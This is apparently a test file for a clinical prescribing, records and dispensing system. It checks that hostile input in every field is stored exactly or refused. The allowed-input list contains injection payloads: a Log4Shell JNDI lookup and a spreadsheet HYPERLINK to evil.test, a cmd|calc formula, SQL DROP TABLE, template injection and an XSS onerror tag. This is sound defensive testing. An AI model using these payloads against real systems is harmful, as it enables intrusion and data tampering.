/** Texts that break careless programs, through every typed field of the real host: kept exactly, or refused with a code. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type DispensingForm } from '../../shared/domain/dispensing/dispensing.ts';
import { type PrescriptionForm } from '../../shared/domain/prescribing/prescription-form.ts';
import { type RecordForm } from '../../shared/domain/records/record.ts';
import { identityCodeCheck } from '../../shared/domain/people/personal-identity-code.ts';
import { ERROR_CODES } from '../../shared/kernel/error-codes.ts';
import { storedText, textFault } from '../../shared/kernel/text.ts';
import { HOSTILE_TEXTS } from '../builders/hostile-text.ts';
import { type ClinicAtHand, clinicAtHand } from './at-hand.ts';
import { type DirectHost } from './direct.ts';
import { accepted, amoxicillin, confirmed, openPatient, PIN2, prescribe, signIn, until, valueOf } from './story.ts';

const BLNS = (
  JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'strings', 'strings.json'), 'utf8')) as {
    value: string;
  }[]
).map(({ value }) => value);

/** What no field may take: XML cannot carry it. */
const FORBIDDEN: readonly string[] = [
  '\u0000',
  'a\u0007b',
  '\u001B[2J',
  '\uFFFE',
  '\uFFFF',
  '\uD800',
  '\uDC00x',
  'x\uDBFF',
];
/** What every field takes when it is short enough. */
const ALLOWED: readonly string[] = [
  ...HOSTILE_TEXTS.filter(text => text.length < 200),
  '=HYPERLINK("http://evil.test","x")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\u202Eesrever\u202C \u2067rtl\u2069',
  'שלום عالم',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A',
  '👩‍⚕️👨‍👩‍👧‍👦🇫🇮',
  "Robert'); DROP TABLE outbox; --",
  '${jndi:ldap://evil.test/a}',
  '{{constructor.constructor("x")()}}',
  '<img src=x onerror=alert(1)>',
  '&lt;&#0;&#x1F;',
  'Åkerblom-Öystilä ÄäÖöÅå €½µ',
  'A\u030A a\u0308',
];

const isRefusal = (answer: unknown): boolean => {
  const { ok, error } = answer as { ok: boolean; error?: { code: string; detail?: string[] } };
  return !ok && error !== undefined && Object.hasOwn(ERROR_CODES, error.code);
};

describe('hostile texts', () => {
  let clinic: ClinicAtHand;
  let host: DirectHost;
  let patientId: string;

  beforeAll(async () => {
    clinic = await clinicAtHand();
    ({ host, patientId } = clinic);
  }, 90_000);
  afterAll(() => clinic?.end());
  const { log } = console;

  /** A value of a measurement is made by the page itself; every other field says in words what is wrong with its text. */
  const refusalsOf = (field: string): readonly string[] =>
    field === 'value' ? ['CALL-0001'] : ['FORM-0001', 'FORM-0002'];

  /** Saves each form; what is taken is read back exactly, and the rules look at it without falling over. */
  async function throughDrafts<F>(
    area: 'prescribing' | 'records' | 'dispensing',
    draftId: string,
    base: F,
    fields: Readonly<Record<string, (text: string) => Partial<F>>>,
    texts: readonly string[],
  ): Promise<void> {
    const wrong: string[] = [];
    let taken = 0;
    for (const [field, change] of Object.entries(fields)) {
      for (const text of texts) {
        const form = { ...base, ...change(text) };
        const answer = await host.dispatch({ method: `${area}.saveDraft`, params: { draftId, form } });
        if (isRefusal(answer)) {
          if (!refusalsOf(field).includes((answer as { error: { code: string } }).error.code))
            wrong.push(`${field}: odd refusal`);
          if (JSON.stringify(answer).includes(text) && text.length > 3) wrong.push(`${field}: echoed`);
          continue;
        }
        taken += 1;
        if (textFault(text, Infinity) !== null) wrong.push(`${field}: took ${JSON.stringify(text.slice(0, 40))}`);
        const kept = (await host.dispatch({ method: `${area}.drafts`, params: { patientId } })) as {
          value: { draftId: string; form: F }[];
        };
        const found = kept.value.find(d => d.draftId === draftId)?.form;
        if (!isDeepStrictEqual(found, form)) wrong.push(`${field}: ${JSON.stringify(text)} came back otherwise`);
        const checked = await host.dispatch({ method: `${area}.check`, params: { draftId, form } });
        if (!(checked as { ok: boolean }).ok)
          wrong.push(
            `${field}: check of ${JSON.stringify(text.slice(0, 60))} (${text.length}) gave ${JSON.stringify(checked)}`,
          );
        const shown = (await host.dispatch({ method: `${area}.preview`, params: { draftIds: [draftId] } })) as {
          ok: boolean;
          error?: { code: string };
        };
        if (!shown.ok && shown.error?.code !== 'FORM-0003')
          wrong.push(`${field}: preview gave ${JSON.stringify(shown)}`);
      }
    }
    expect([...new Set(wrong)].slice(0, 30)).toEqual([]);
    expect(taken).toBeGreaterThan(0);
  }

  const reason = (text: string) => ({ confirmations: [{ rule: 'R99', reason: text }] });
  const PRESCRIPTION_FIELDS: Readonly<Record<string, (text: string) => Partial<PrescriptionForm>>> = {
    doseTyped: text => ({ doseTyped: text }),
    doseFree: text => ({ doseTyped: text, doseTextOnly: true }),
    packages: text => ({ packages: text }),
    totalAmount: text => ({ amountMode: '2', totalAmount: text }),
    totalUnit: text => ({ amountMode: '2', totalAmount: '30', totalUnit: text }),
    durationDays: text => ({ amountMode: '3', durationDays: text }),
    repeats: text => ({ repeats: text }),
    repeatIntervalDays: text => ({ repeats: '2', repeatIntervalDays: text }),
    indication: text => ({ indication: text }),
    renewalBanText: text => ({ renewalProhibited: true, renewalBanCode: '5', renewalBanText: text }),
    weightKg: text => ({ weightKg: text }),
    messageToPharmacy: text => ({ messageToPharmacy: text }),
    narcoticText: text => ({ narcoticIdentificationCode: '9', narcoticIdentificationText: text }),
    confirmation: reason,
  };
  const LONG = [
    'x'.repeat(32),
    'x'.repeat(200),
    'x'.repeat(500),
    'x'.repeat(1000),
    'ä'.repeat(2000),
    '1 '.repeat(1000),
    'x'.repeat(20_000),
    '𝕏'.repeat(10_000),
  ];

  test('every field of a prescription', async () => {
    const { draftId } = valueOf(await host.client.prescribing.openForm({ patientId }));
    const base = await amoxicillin(host.client);
    await throughDrafts('prescribing', draftId, base, PRESCRIPTION_FIELDS, [...ALLOWED, ...FORBIDDEN, ...LONG]);
    valueOf(await host.client.prescribing.discardDraft({ draftId }));
  }, 120_000);

  test('the list of naughty strings, in the long fields of a prescription', async () => {
    const { draftId } = valueOf(await host.client.prescribing.openForm({ patientId }));
    const base = await amoxicillin(host.client);
    const all = (text: string) => ({
      ...PRESCRIPTION_FIELDS['indication']?.(text),
      ...PRESCRIPTION_FIELDS['messageToPharmacy']?.(text),
      doseTyped: text,
    });
    await throughDrafts(
      'prescribing',
      draftId,
      base,
      { all, amounts: text => ({ packages: text, weightKg: text }) },
      BLNS,
    );
    valueOf(await host.client.prescribing.discardDraft({ draftId }));
  }, 120_000);

  test('amounts: what is no amount is a finding that blocks, never a document', async () => {
    const { draftId } = valueOf(await host.client.prescribing.openForm({ patientId }));
    const base = await amoxicillin(host.client);
    const amounts: readonly string[] = [
      '0',
      '-1',
      '-0',
      '1e9',
      '1e3',
      '1000000000',
      '99999999999999999999',
      '0.0000001',
      '1,5',
      '1.5',
      '.5',
      '1.',
      '1,,5',
      '1 000',
      'NaN',
      'Infinity',
      '0x10',
      '٣',
      '１',
      '½',
      'yksi',
      ' ',
      '1 2',
      '+1',
      '1\u0000',
    ];
    const went: string[] = [];
    for (const field of ['packages', 'repeats', 'durationDays'] as const) {
      for (const text of amounts) {
        const mode = field === 'durationDays' ? ({ amountMode: '3' } as const) : {};
        const form: PrescriptionForm = { ...base, ...mode, [field]: text };
        const checked = (await host.dispatch({ method: 'prescribing.check', params: { draftId, form } })) as {
          ok: boolean;
          value?: { findings: { severity: string }[] };
        };
        if (checked.ok && !checked.value?.findings.some(f => f.severity === 'block')) went.push(`${field} ${text}`);
      }
    }
    // Whole numbers within reason are the only ones that pass, and an empty repeat is none.
    const passing = went.filter(line => !/ (1|0|\s*)$/.test(line));
    log('amounts that no rule blocks:', JSON.stringify(passing));
    expect(passing).toEqual([]);
    for (const text of ['0', '-1', '1e9', '99999999999999999999', '0.0000001', 'NaN', '']) {
      const form: PrescriptionForm = { ...base, amountMode: '2', totalAmount: text, totalUnit: 'kpl' };
      const { findings } = valueOf(await host.client.prescribing.check({ draftId, form }));
      expect([text, findings.some(f => f.severity === 'block')]).toEqual([text, true]);
    }
    const comma: PrescriptionForm = { ...base, amountMode: '2', totalAmount: '22,5', totalUnit: 'kpl' };
    const { findings } = valueOf(await host.client.prescribing.check({ draftId, form: comma }));
    valueOf(
      await host.client.prescribing.saveDraft({ draftId, form: { ...comma, confirmations: confirmed(findings) } }),
    );
    const [shown] = valueOf(await host.client.prescribing.preview({ draftIds: [draftId] }));
    expect(JSON.stringify(shown?.readable)).toContain('22,5');
    valueOf(await host.client.prescribing.discardDraft({ draftId }));
  }, 60_000);

  test('dates that do not exist are refused', async () => {
    const { draftId } = valueOf(await host.client.prescribing.openForm({ patientId }));
    const base = await amoxicillin(host.client);
    for (const date of [
      '2027-02-29',
      '2026-13-01',
      '2026-00-10',
      '2026-12-32',
      '26-12-01',
      '2026-1-1',
      '31.12.2026',
      '2026-12-31T00:00:00Z',
      '',
      'tomorrow',
      '+002026-12-31',
    ]) {
      const answer = await host.dispatch({
        method: 'prescribing.saveDraft',
        params: { draftId, form: { ...base, validUntil: date } },
      });
      expect([date, isRefusal(answer)]).toEqual([date, true]);
    }
    for (const date of ['0000-01-01', '1900-01-01', '2026-01-01', '2999-12-31', '9999-12-31']) {
      const form = { ...base, validUntil: date as never };
      const { findings } = valueOf(await host.client.prescribing.check({ draftId, form }));
      expect([date, findings.some(f => f.severity === 'block')]).toEqual([date, true]);
    }
    valueOf(await host.client.prescribing.discardDraft({ draftId }));
  });

  test('what is signed says what was typed: in the preview, in the queue, at the service and in the list afterwards', async () => {
    const base = await amoxicillin(host.client);
    const texts = ALLOWED.filter(text => text.trim() !== '');
    const made: { draftId: string; digest: string; oid: string; text: string }[] = [];
    const wrong: string[] = [];
    for (const text of texts) {
      const { draftId, documentOid } = valueOf(await host.client.prescribing.openForm({ patientId }));
      const typed: PrescriptionForm = {
        ...base,
        doseTyped: text,
        doseTextOnly: true,
        indication: text,
        messageToPharmacy: text,
      };
      const { findings } = valueOf(await host.client.prescribing.check({ draftId, form: typed }));
      valueOf(
        await host.client.prescribing.saveDraft({ draftId, form: { ...typed, confirmations: confirmed(findings) } }),
      );
      const shown = await host.client.prescribing.preview({ draftIds: [draftId] });
      if (!shown.ok) {
        wrong.push(`${JSON.stringify(text)}: ${JSON.stringify(shown.error)}`);
        valueOf(await host.client.prescribing.discardDraft({ draftId }));
        continue;
      }
      const readable = shown.value[0]?.readable ?? [];
      const read = readable.flatMap(b =>
        b.kind === 'paragraph'
          ? [b.spans.map(s => s.text).join('')]
          : b.kind === 'table'
            ? b.rows.flat().map(cell => cell.map(s => s.text).join(''))
            : b.kind === 'list'
              ? b.items.map(i => i.map(s => s.text).join(''))
              : [b.text],
      );
      if (!read.some(line => line.includes(written(text)))) wrong.push(`${JSON.stringify(text)} is not in the preview`);
      made.push({ draftId, digest: shown.value[0]?.digest ?? '', oid: documentOid, text });
    }
    expect(wrong).toEqual([]);
    const items = made.map(({ draftId, digest }) => ({ draftId, digest }));
    const result = valueOf(await host.client.prescribing.sign({ items, pin2: PIN2 }));
    expect(result.left).toEqual([]);
    await until(async () => valueOf(await host.client.queue.counts({})).counts.unsent === 0, 'queue empty', 60_000);
    const { rows } = valueOf(await host.client.queue.list({ show: 'all' }));
    for (const { oid } of made) expect(rows.find(r => r.documentOid === oid)?.state).toBe('accepted');
    // A machine under load may answer later than a list waits for: asked again, as a person would.
    const listed = await until(
      async () => {
        const list = valueOf(await host.client.prescribing.list({ patientId }));
        return list.source.from === 'service' && list;
      },
      'the list from the service',
      60_000,
    );
    for (const { oid, text } of made) {
      const found = listed.rows.find(r => r.prescription.oid === oid)?.prescription;
      const dose = written(text);
      expect([found?.dose.text, found?.indication, found?.messageToPharmacy]).toEqual([dose, dose, dose]);
    }
  }, 120_000);

  /** As a document carries it: NFC, line ends as LF, no space around; a byte order mark inside a text is no character. */
  const written = (text: string): string => storedText(text).replaceAll('\uFEFF', '').trim();

  test('every field of a record', async () => {
    const event = valueOf(await host.client.patients.openServiceEvent({ patientId, kind: 'visit' }));
    const template = valueOf(await host.client.records.templates({}))[0];
    const draft = valueOf(
      await host.client.records.openForm({ patientId, serviceEventOid: event.oid, templateId: template?.id ?? '' }),
    );
    const { draftId, form: base } = draft;
    const section = (n: number, change: object): Partial<RecordForm> => ({
      sections: base.sections.map((s, i) => (i === n ? { ...s, ...change } : s)),
    });
    const diagnosis = (change: object) =>
      section(4, {
        entries: [{ kind: 'diagnosis', code: 'J06.9', name: 'x', primacy: 'PAA', permanence: null, ...change }],
      });
    const fields: Readonly<Record<string, (text: string) => Partial<RecordForm>>> = {
      text: text => section(0, { text }),
      diagnosisCode: text => diagnosis({ code: text }),
      diagnosisName: text => diagnosis({ name: text }),
      value: text =>
        section(3, {
          entries: [
            {
              kind: 'measurement',
              measurement: 'bodyWeight',
              value: text,
              secondValue: null,
              measuredAt: draft.savedAt,
            },
          ],
        }),
      confirmation: reason,
    };
    await throughDrafts('records', draftId, base, fields, [...ALLOWED, ...FORBIDDEN, ...LONG]);
    await throughDrafts('records', draftId, base, { text: text => section(0, { text }) }, BLNS);

    const typed = ALLOWED.filter(text => text.trim() !== '').join('\n');
    const form = { ...base, ...section(0, { text: typed }), ...{} };
    const withDiagnosis = {
      ...form,
      sections: form.sections.map((s, i) =>
        i === 4
          ? {
              ...s,
              text: '',
              entries: [
                {
                  kind: 'diagnosis' as const,
                  code: 'J06.9',
                  name: 'Akuutti ylähengitystieinfektio',
                  primacy: 'PAA' as const,
                  permanence: null,
                },
              ],
            }
          : s,
      ),
    };
    const { findings } = valueOf(await host.client.records.check({ draftId, form: withDiagnosis }));
    valueOf(
      await host.client.records.saveDraft({ draftId, form: { ...withDiagnosis, confirmations: confirmed(findings) } }),
    );
    const [shown] = valueOf(await host.client.records.preview({ draftIds: [draftId] }));
    const result = valueOf(
      await host.client.records.sign({ items: [{ draftId, digest: shown?.digest ?? '' }], pin2: PIN2 }),
    );
    expect(result.left).toEqual([]);
    await accepted(host.client, draft.documentOid);
    const read = valueOf(await host.client.records.read({ patientId, documentOid: draft.documentOid }));
    expect(read.readable).toEqual(shown?.readable);
    const all = read.readable
      .flatMap(b => (b.kind === 'paragraph' ? [b.spans.map(s => s.text).join('')] : []))
      .join('\n');
    for (const line of written(typed).split('\n')) expect(all).toContain(line);
  }, 120_000);

  test('patient search takes anything short enough and finds nobody by tricks', async () => {
    for (const text of [
      ...ALLOWED,
      ...BLNS,
      '%',
      '_',
      '*',
      '"',
      "'",
      'a"b',
      'NEAR(',
      'a OR b',
      'family:x',
      '^a',
      '-a',
      '',
    ]) {
      const answer = await host.dispatch({ method: 'patients.search', params: { text, limit: 5 } });
      const { ok, value } = answer as { ok: boolean; value?: { total: number } };
      if (!ok)
        expect([text.slice(0, 40), isRefusal(answer), text.length > 200 || textFault(text, 200) !== null]).toEqual([
          text.slice(0, 40),
          true,
          true,
        ]);
      else if (!/[\p{L}\p{N}]/u.test(text)) expect([text, value?.total]).toEqual([text, 0]);
    }
    for (const text of FORBIDDEN)
      expect(isRefusal(await host.dispatch({ method: 'patients.search', params: { text, limit: 5 } }))).toBe(true);
  }, 60_000);

  test('identity codes: wrong check character, wrong day, wrong sign are refused; a small letter is not', async () => {
    const nine = '010190999';
    const right = identityCodeCheck(nine);
    for (const check of '0123456789ABCDEFHJKLMNPRSTUVWXY'.replace(right, '')) {
      const answer = await host.client.patients.search({ text: `010190-999${check}`, limit: 5 });
      expect(answer).toMatchObject({ ok: false, error: { code: 'PAT-0001' } });
      expect(JSON.stringify(answer)).not.toContain('010190');
    }
    for (const code of [`310290-999${right}`, `010190G999${right}`, `010190-000${right}`, `000190-999${right}`])
      expect(await host.client.patients.search({ text: code, limit: 5 })).toMatchObject({
        ok: false,
        error: { code: 'PAT-0001' },
      });
    const typed = `010190-999${right}`.toLowerCase();
    expect(await host.client.patients.search({ text: ` ${typed} `, limit: 5 })).toMatchObject({ ok: true });
  });

  test('a ten-megabyte text is refused everywhere', async () => {
    const text = 'x'.repeat(10_000_000);
    const { draftId } = valueOf(await host.client.prescribing.openForm({ patientId }));
    const base = await amoxicillin(host.client);
    for (const message of [
      { method: 'patients.search', params: { text, limit: 5 } },
      { method: 'medicines.search', params: { text, limit: 5 } },
      { method: 'records.codes', params: { register: 'diagnoses', text, limit: 5 } },
      { method: 'prescribing.saveDraft', params: { draftId, form: { ...base, indication: text } } },
      { method: 'queue.decide', params: { itemId: 'x', decision: 'cancel', reason: text } },
      { method: 'patients.open', params: { patientId, reason: '1', basis: null, collector: text } },
      { method: 'system.saveSettings', params: { language: text, theme: 'dark', density: 'compact' } },
      { method: 'session.signIn', params: { pin1: text } },
    ])
      expect([message.method, await host.dispatch(message)]).toMatchObject([
        message.method,
        { ok: false, error: { code: /settings|signIn/i.test(message.method) ? 'CALL-0001' : 'FORM-0002' } },
      ]);
    valueOf(await host.client.prescribing.discardDraft({ draftId }));
  });

  test('medicine and diagnosis search never fall over', async () => {
    for (const text of [...ALLOWED, ...BLNS])
      for (const method of ['medicines.search', 'records.codes']) {
        const register = method === 'records.codes' ? { register: 'diagnoses' } : {};
        const answer = await host.dispatch({ method, params: { ...register, text, limit: 20 } });
        if (!(answer as { ok: boolean }).ok)
          expect([method, text.slice(0, 40), text.length > 200 || textFault(text, 200) !== null]).toEqual([
            method,
            text.slice(0, 40),
            true,
          ]);
      }
  }, 60_000);

  test('the reason of a decision on the queue is kept or refused', async () => {
    valueOf(await host.client.system.practiceFault({ fault: 'lineDown' }));
    const oid = await prescribe(host.client, patientId);
    const item = await until(
      async () =>
        valueOf(await host.client.queue.list({ show: 'open' })).rows.find(
          r => r.documentOid === oid && r.state === 'queued',
        ),
      'the waiting item',
    );
    for (const text of [...FORBIDDEN, 'x'.repeat(501)])
      expect(
        isRefusal(
          await host.dispatch({
            method: 'queue.decide',
            params: { itemId: item.id, decision: 'cancel', reason: text },
          }),
        ),
      ).toBe(true);
    const reasonText = ALLOWED.join(' ').slice(0, 400);
    const answer = await host.client.queue.decide({ itemId: item.id, decision: 'cancel', reason: reasonText });
    expect(answer).toMatchObject({ ok: true, value: { state: 'cancelled' } });
    valueOf(await host.client.system.practiceFault({ fault: 'none' }));
  }, 60_000);

  test('settings take the three choices and nothing else', async () => {
    for (const text of [...ALLOWED.slice(0, 10), 'FI', 'fi ', '']) {
      for (const change of [{ language: text }, { theme: text }, { density: text }, { [text || 'x']: 'fi' }]) {
        const params = { language: 'fi', theme: 'dark', density: 'compact', ...change };
        expect(isRefusal(await host.dispatch({ method: 'system.saveSettings', params }))).toBe(true);
      }
    }
    valueOf(await host.client.system.saveSettings({ language: 'fi', theme: 'system', density: 'compact' }));
  });

  test('every field of a dispensing', async () => {
    const oid = await prescribe(host.client, patientId, { packages: '2' });
    await accepted(host.client, oid);
    await signIn(host.client, 'leena-apaja');
    await openPatient(host.client, 'Kokemäki', true);
    const { draft } = valueOf(await host.client.dispensing.openForm({ patientId, prescriptionSetId: oid }));
    const base: DispensingForm = { ...draft.form, substitutionRefusal: 'buyerRefuses' };
    const fields: Readonly<Record<string, (text: string) => Partial<DispensingForm>>> = {
      packages: text => ({ packages: text }),
      splitAmount: text => ({ splitAmount: text }),
      refusalText: text => ({ substitutionRefusal: 'other', substitutionRefusalText: text }),
      labelDoseText: text => ({ labelDoseText: text }),
      remark: text => ({ remark: text }),
      confirmation: reason,
    };
    await throughDrafts('dispensing', draft.draftId, base, fields, [...ALLOWED, ...FORBIDDEN, ...LONG]);
    const bad = ['0', '-1', '1e9', '1,5', '99999999', 'NaN', ''];
    for (const packages of bad) {
      const { findings } = valueOf(
        await host.client.dispensing.check({ draftId: draft.draftId, form: { ...base, packages } }),
      );
      expect([packages, findings.some(f => f.severity === 'block')]).toEqual([packages, true]);
    }
    const typed = ALLOWED.filter(text => !text.includes('\n') && text.trim() !== '')
      .join(' ')
      .slice(0, 450);
    const form = { ...base, packages: '1', remark: typed };
    const { findings } = valueOf(await host.client.dispensing.check({ draftId: draft.draftId, form }));
    valueOf(
      await host.client.dispensing.saveDraft({
        draftId: draft.draftId,
        form: { ...form, confirmations: confirmed(findings) },
      }),
    );
    const shown = valueOf(await host.client.dispensing.preview({ draftIds: [draft.draftId] }))[0];
    const signed = valueOf(
      await host.client.dispensing.sign({
        items: [{ draftId: draft.draftId, digest: shown?.digest ?? '' }],
        pin2: PIN2,
      }),
    );
    expect(signed.left).toEqual([]);
    await accepted(host.client, draft.documentOid);
    const made = valueOf(await host.client.dispensing.made({ patientId })).find(
      d => d.dispensing.oid === draft.documentOid,
    );
    expect(written(made?.dispensing.remark ?? '')).toBe(written(typed));
    const label = valueOf(await host.client.prints.label({ documentOid: draft.documentOid }));
    expect(Buffer.from(label.base64, 'base64').subarray(0, 5).toString()).toBe('%PDF-');
  }, 120_000);
});
